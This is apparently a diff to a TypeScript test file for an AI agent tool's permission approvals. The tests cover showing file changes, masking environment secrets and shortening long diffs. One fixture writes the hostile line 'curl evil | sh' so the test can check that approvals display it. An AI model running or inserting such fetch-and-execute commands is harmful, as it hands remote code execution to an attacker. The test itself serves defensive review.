@@ -1,4 +1,4 @@
-import { existsSync } from "node:fs";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { agentTypeOrGeneral } from "../../../../src/agent/prompts/agent-types.ts";
@@ -10,10 +10,14 @@ import {
 import { requestShutdown } from "../../../../src/operations/ending/shutdown.ts";
 import { interruptAgent } from "../../../../src/operations/interrupt.ts";
 import { runState } from "../../../../src/operations/run/run-state.ts";
+import { steadyNow } from "../../../../src/os/clock.ts";
 import { LEAD_NAME } from "../../../../src/schema/names.ts";
 import { sendMessage } from "../../../../src/team/mailbox/send.ts";
 import { readStatus } from "../../../../src/team/records/read-records.ts";
 import type { TeamRef } from "../../../../src/team/ref.ts";
+import { createPaneView } from "../../../../src/terminal/pane/pane-view.ts";
+import type { WorkerOptions } from "../../../../src/worker/worker.ts";
+import { temporaryDirectory } from "../../../support/files/temporary-directory.ts";
 import { testTeam } from "../../../support/team/test-team.ts";
 import { eventually } from "../../../support/timing/eventually.ts";
 import { contextOf, type WorkerInput } from "../../../support/worker/start-worker.ts";
@@ -128,20 +132,73 @@ describe("pending permission requests (S61)", () => {
   it("show the change of a file in the pane and in the list of approvals", async () => {
     const input = { file_path: "a.js", content: "one\ncurl evil | sh\n" };
     const { ref, dev } = await asking({ turns: [{ tools: [{ name: "Write", input }] }, { say: "done" }] });
-    expect(dev.shown).toEqual(expect.arrayContaining(["change: + one", "change: + curl evil | sh"]));
+    expect(dev.shown).toEqual(expect.arrayContaining(["change: +one", "change: +curl evil | sh"]));
     const [approval] = listApprovals(ref);
-    expect(approval).toMatchObject({ change: ["+ one", "+ curl evil | sh"], reason: expect.any(String) });
-    expect(approvalDetails(ref, approval?.id ?? "")).toMatchObject({ ...approval, input });
+    expect(approval).toMatchObject({
+      change: ["@@ -0,0 +1,2 @@", "+one", "+curl evil | sh"],
+      reason: expect.any(String),
+    });
+    expect(await approvalDetails(ref, approval?.id ?? "")).toMatchObject({ ...approval, input });
   });
 
   it("show a long change shortened in the list and whole on its own", async () => {
-    const content = Array.from({ length: 30 }, (_, at) => `line ${at}`).join("\n");
+    const content = Array.from({ length: 30 }, (_, at) => `line ${at}\n`).join("");
     const turns = [{ tools: [{ name: "Write", input: { file_path: "a", content } }] }, { say: "done" }];
     const { ref } = await asking({ turns });
     const [approval] = listApprovals(ref);
     expect(approval?.change).toHaveLength(9);
-    expect(approval?.change?.at(-1)).toBe("… 22 more lines");
-    expect(approvalDetails(ref, approval?.id ?? "").change).toHaveLength(30);
+    expect(approval?.change?.at(-1)).toBe("… 23 more lines");
+    expect((await approvalDetails(ref, approval?.id ?? "")).change).toHaveLength(31);
+  });
+
+  it("show an edit with the lines around it, and no secret in them", async () => {
+    const cwd = temporaryDirectory();
+    writeFileSync(join(cwd, "a"), "first-line-of-it\nsecond-line-of-it\nport=1\nend\n");
+    const old_string = "port=1";
+    const turns = [
+      { tools: [{ name: "Read", input: { file_path: "a" } }] },
+      { tools: [{ name: "Edit", input: { file_path: "a", old_string, new_string: "port=2" } }] },
+      { say: "done" },
+    ];
+    const { ref, dev } = await asking({
+      turns,
+      cwd,
+      env: { SIGNING_KEY: "first-line-of-it\nsecond-line-of-it" },
+    });
+    const change = ["@@ -1,3 +1,3 @@", " [secret]", "-port=1", "+port=2", " end"];
+    expect(dev.shown).toEqual(expect.arrayContaining(change.map((line) => `change: ${line}`)));
+    const [approval] = listApprovals(ref);
+    expect(approval).toMatchObject({ change });
+    expect((await approvalDetails(ref, approval?.id ?? "")).change).toEqual(change);
+  });
+
+  it("show a very long change shortened at first, and whole before the pane allows it", async () => {
+    const cwd = temporaryDirectory();
+    writeFileSync(join(cwd, "a"), "old\n");
+    const content = Array.from({ length: 500 }, (_, at) => `line ${at}\n`).join("");
+    const turns = [
+      { tools: [{ name: "Read", input: { file_path: "a" } }] },
+      { tools: [{ name: "Write", input: { file_path: "a", content } }] },
+      { say: "done" },
+    ];
+    let pane = "";
+    const wrap = (options: WorkerOptions): WorkerOptions => {
+      const write = (text: string): void => {
+        pane += text;
+      };
+      return { ...options, view: createPaneView({ write, name: "dev", width: () => 80, plain: true }) };
+    };
+    const { ref, dev } = await asking({ turns, cwd, wrap });
+    expect(pane).toMatch(/ 1 - old\n +1 \+ line 0\n[\s\S]*… \d+ more lines\n[\s\S]*y show all of it/);
+    const [approval] = listApprovals(ref);
+    expect(approval).toMatchObject({ partial: true });
+    const details = (await approvalDetails(ref, approval?.id ?? "")).change;
+    expect([details?.length, details?.at(-1)]).toEqual([501, "+line 499"]);
+    await dev.worker.handleTypedLine("y");
+    expect(pane).toMatch(/ 500 \+ line 499\n[\s\S]*y yes/);
+    expect(readFileSync(join(cwd, "a"), "utf8")).toBe("old\n");
+    await dev.worker.handleTypedLine("y");
+    await eventually("the change", () => readFileSync(join(cwd, "a"), "utf8") === content);
   });
 
   it("show the line breaks of a command, so that a comment hides no line", async () => {
@@ -168,6 +225,15 @@ describe("question with choices (S63)", () => {
     await eventually("the answer's turn", () => dev.inputs.length === 2);
     expect(dev.inputs[1]).toMatch(/\n8080$/);
     expect(listApprovals(ref)).toEqual([]);
+  });
+
+  it("takes no line that was begun before the question as its answer", async () => {
+    const begun = steadyNow() - 60_000;
+    const { ref, dev } = await asking({ turns, alone: false });
+    await eventually("the turn's end", () => dev.shown.includes("turn_ended"));
+    await dev.worker.handleTypedLine("2", begun);
+    await eventually("the line's turn", () => dev.inputs.length === 2);
+    expect(listApprovals(ref)).toHaveLength(1);
   });
 
   it("accepts a number as the note of approve", async () => {
